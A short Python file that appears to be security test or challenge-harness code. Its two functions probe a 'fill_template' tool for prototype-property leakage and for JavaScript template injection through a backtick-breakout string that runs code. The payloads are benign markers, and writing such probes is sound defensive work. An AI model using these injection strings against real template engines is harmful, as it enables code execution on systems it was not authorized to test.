def exploit_inherited_function(solver, workspace):
    outcome = solver.attempt("fill_template", "{city} {hasOwnProperty} {valueOf}", {"city": "Rome"})
    if outcome.contains("[native code]"):
        return f"the template showed inherited functions: {outcome.value}"


def exploit_backtick(solver, workspace):
    outcome = solver.attempt("fill_template", "In {city}` + 'zxc'.toUpperCase() + `", {"city": "Rome"})
    if outcome.contains("ZXC"):
        return f"the template was run as code: {outcome.value}"
